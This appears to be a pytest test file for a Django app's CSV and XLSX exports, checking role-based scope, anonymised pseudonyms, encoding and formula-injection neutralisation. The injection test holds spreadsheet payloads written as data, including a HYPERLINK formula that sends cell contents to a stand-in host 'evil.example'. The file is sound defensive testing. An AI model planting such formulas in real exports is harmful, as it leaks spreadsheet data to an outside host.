"""CSV and XLSX exports: scope per role, nominative or anonymised, Excel-friendly, safe against formula injection."""

import csv
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from apps.catalogue.models import Course
from apps.registrations.models import Registration
from apps.statistics.exports import neutralise, pseudonym
from apps.tenancy.scoping import for_site
from tests.factories import make_pupil, make_slot
from tests.statistics.util import fr

pytestmark = pytest.mark.django_db

BOM = "\ufeff".encode()


def url(kind, fmt="csv"):
    return reverse("statistics:export", args=[kind, fmt])


def csv_rows(response):
    assert response.streaming
    raw = b"".join(response.streaming_content)
    assert raw.startswith(BOM)
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))


def xlsx_rows(response):
    workbook = load_workbook(io.BytesIO(response.content))
    return [list(row) for row in workbook.active.iter_rows(values_only=True)], workbook.active


def as_dicts(rows):
    header, *body = rows
    return [dict(zip(header, row, strict=True)) for row in body]


# --- The one function both formats use ---------------------------------------------------------


@pytest.mark.parametrize("text", ["=1+1", "+33612345678", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd", '=HYPERLINK("x")'])
def test_neutralise_prefixes_dangerous_text_with_a_quote(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["Algèbre", "a=b", "", " =x", 42, -5, None, 3.5])
def test_neutralise_leaves_other_values_alone(value):
    assert neutralise(value) == value


# --- Who may export what ----------------------------------------------------------------------------


@pytest.mark.parametrize("role", ["speaker", "legal", "pupil", "visitor"])
def test_others_may_not_export(client, data, role):
    client.force_login(getattr(data, role))
    for kind in ("courses", "slots", "registrations"):
        assert client.get(url(kind)).status_code == 403


def test_high_school_referents_export_registrations_only(client, data):
    client.force_login(data.high_school_referent)
    assert client.get(url("courses")).status_code == 403
    assert client.get(url("slots", "xlsx")).status_code == 403
    rows = as_dicts(csv_rows(client.get(url("registrations"))))
    # Their consenting pupil only, anonymised.
    assert [r[fr("Registration")] for r in rows] == [str(data.registration.pk)]
    assert rows[0][fr("Last name")] == rows[0][fr("First name")] == rows[0][fr("E-mail")] == ""
    assert rows[0][fr("Person (pseudonymous id)")] == pseudonym(data.site.pk, data.pupil.pk)
    assert rows[0][fr("High school")] == "Lycée Kléber"


def test_unknown_kinds_and_formats_are_not_found(client, data):
    client.force_login(data.master_referent)
    assert client.get(url("people")).status_code == 404
    assert client.get(url("slots", "pdf")).status_code == 404


# --- Scope and nominative / anonymised rows -----------------------------------------------------------


def test_master_referent_exports_every_registration_of_the_site_nominatively(client, data, other_world):
    client.force_login(data.master_referent)
    rows = as_dicts(csv_rows(client.get(url("registrations"))))
    expected = {
        data.registration.pk,
        data.other_registration.pk,
        data.student_registration.pk,
        data.visitor_registration.pk,
        data.cancelled_registration.pk,
    }
    assert {int(r[fr("Registration")]) for r in rows} == expected
    by_pk = {int(r[fr("Registration")]): r for r in rows}
    pupil_row = by_pk[data.registration.pk]
    assert (pupil_row[fr("Last name")], pupil_row[fr("First name")], pupil_row[fr("E-mail")]) == (
        data.pupil.last_name,
        data.pupil.first_name,
        data.pupil.email,
    )
    assert pupil_row[fr("Population")] == fr("Pupils") and pupil_row[fr("High school")] == "Lycée Kléber"
    assert pupil_row[fr("Attendance")] == fr("Present") and pupil_row[fr("Host establishment")] == "Université alpha"
    assert by_pk[data.cancelled_registration.pk][fr("Status")] == fr("Cancelled")
    assert by_pk[data.student_registration.pk][fr("Population")] == fr("Students")


def test_structure_referent_export_holds_their_structure_only_by_name(client, data, other_world):
    client.force_login(data.structure_referent)
    rows = as_dicts(csv_rows(client.get(url("registrations"))))
    assert {int(r[fr("Registration")]) for r in rows} == {data.registration.pk, data.cancelled_registration.pk}
    assert all(r[fr("E-mail")] for r in rows)
    slots = as_dicts(csv_rows(client.get(url("slots"))))
    assert {int(r[fr("Slot")]) for r in slots} == {data.slot.pk, data.draft_slot.pk}
    courses = as_dicts(csv_rows(client.get(url("courses"))))
    assert [r[fr("Name")] for r in courses] == ["Algorithmique"]


def test_consultant_export_is_anonymised_with_stable_pseudonyms(client, data):
    client.force_login(data.consultant)
    rows = as_dicts(csv_rows(client.get(url("registrations"))))
    assert {int(r[fr("Registration")]) for r in rows} == {data.registration.pk, data.cancelled_registration.pk}
    for row in rows:
        assert row[fr("Last name")] == row[fr("First name")] == row[fr("E-mail")] == ""
    by_pk = {int(r[fr("Registration")]): r[fr("Person (pseudonymous id)")] for r in rows}
    assert by_pk[data.registration.pk] == pseudonym(data.site.pk, data.pupil.pk)
    assert by_pk[data.cancelled_registration.pk] == pseudonym(data.site.pk, data.student.pk)
    assert by_pk[data.registration.pk] != by_pk[data.cancelled_registration.pk]
    raw = b"".join(client.get(url("registrations")).streaming_content).decode("utf-8-sig")
    assert data.pupil.email not in raw and data.pupil.last_name not in raw


def test_a_referent_who_also_speaks_elsewhere_sees_those_rows_anonymised(client, data):
    """Speaking in a slot gives sight of it, not the names of its registrants: only managers get those."""
    from apps.accounts.models import Role
    from tests.factories import grant

    with for_site(data.site):
        grant(data.structure_referent, data.site, Role.SPEAKER, establishment=data.master)
        data.other_slot.speakers.add(data.structure_referent)
    client.force_login(data.structure_referent)
    rows = {int(r[fr("Registration")]): r for r in as_dicts(csv_rows(client.get(url("registrations"))))}
    assert rows[data.registration.pk][fr("E-mail")] == data.pupil.email
    assert rows[data.other_registration.pk][fr("E-mail")] == rows[data.other_registration.pk][fr("Last name")] == ""


def test_establishment_referents_export_their_establishment(client, data, other_world):
    client.force_login(data.host_referent)
    rows = as_dicts(csv_rows(client.get(url("registrations"))))
    assert [int(r[fr("Registration")]) for r in rows] == [data.student_registration.pk]
    assert rows[0][fr("E-mail")] == data.student.email


def test_exports_follow_the_filters_and_bad_filters_are_refused(client, data):
    client.force_login(data.master_referent)
    rows = as_dicts(csv_rows(client.get(url("registrations"), {"establishment": data.host.pk})))
    assert [int(r[fr("Registration")]) for r in rows] == [data.student_registration.pk]
    response = client.get(url("registrations"), {"date_from": "31/31/2026"})
    assert response.status_code == 400
    assert response.context["form"].errors


# --- Files that open cleanly and safely ---------------------------------------------------------------


def test_csv_is_utf8_with_bom_semicolons_and_quoting(client, data):
    with for_site(data.site):
        Course.objects.filter(pk=data.course.pk).update(label='Algo; "avancée"\nniveau 2')
    client.force_login(data.master_referent)
    response = client.get(url("courses"))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="courses-alpha-')
    raw = b"".join(response.streaming_content)
    assert raw.startswith(BOM) and fr("Host establishment").encode() in raw
    assert b'"Algo; ""avanc\xc3\xa9e""\nniveau 2"' in raw
    names = [r[fr("Name")] for r in as_dicts(list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";")))]
    assert 'Algo; "avancée"\nniveau 2' in names


def test_formula_injection_is_neutralised_in_csv_and_xlsx(client, data):
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'
    with for_site(data.site):
        Course.objects.filter(pk=data.course.pk).update(label=evil)
        data.pupil.last_name = "@SUM(1+1)"
        data.pupil.save(update_fields=["last_name"])
    client.force_login(data.master_referent)
    csv_courses = as_dicts(csv_rows(client.get(url("courses"))))
    assert "'" + evil in [r[fr("Name")] for r in csv_courses]
    assert evil not in [r[fr("Name")] for r in csv_courses]
    csv_registrations = as_dicts(csv_rows(client.get(url("registrations"))))
    assert "'@SUM(1+1)" in [r[fr("Last name")] for r in csv_registrations]

    rows, sheet = xlsx_rows(client.get(url("courses", "xlsx")))
    assert "'" + evil in [row[1] for row in rows]
    for row in sheet.iter_rows(min_row=2):
        assert row[1].data_type == "s"  # stored as text, never as a formula
    rows, _sheet = xlsx_rows(client.get(url("registrations", "xlsx")))
    assert "'@SUM(1+1)" in [row[2] for row in rows]


def test_xlsx_opens_with_the_right_rows(client, data, other_world):
    client.force_login(data.structure_referent)
    response = client.get(url("slots", "xlsx"))
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    rows, sheet = xlsx_rows(response)
    assert sheet.title == fr("Slots")
    records = as_dicts(rows)
    assert {r[fr("Slot")] for r in records} == {data.slot.pk, data.draft_slot.pk}
    slot_row = next(r for r in records if r[fr("Slot")] == data.slot.pk)
    assert slot_row[fr("Date")].date() == data.slot.date
    assert (slot_row[fr("Active registrations")], slot_row[fr("Attended")], slot_row[fr("Training")]) == (
        1,
        1,
        "Licence Informatique",
    )


def test_registrations_export_runs_a_constant_number_of_queries(client, data):
    client.force_login(data.structure_referent)
    client.get(url("registrations"))

    def run():
        with CaptureQueriesContext(connection) as queries:
            b"".join(client.get(url("registrations")).streaming_content)
        return len(queries)

    before = run()
    with for_site(data.site):
        for index in range(6):
            slot = make_slot(data, data.course, days=30 + index)
            Registration.objects.create(site=data.site, slot=slot, person=make_pupil(data))
    assert run() == before
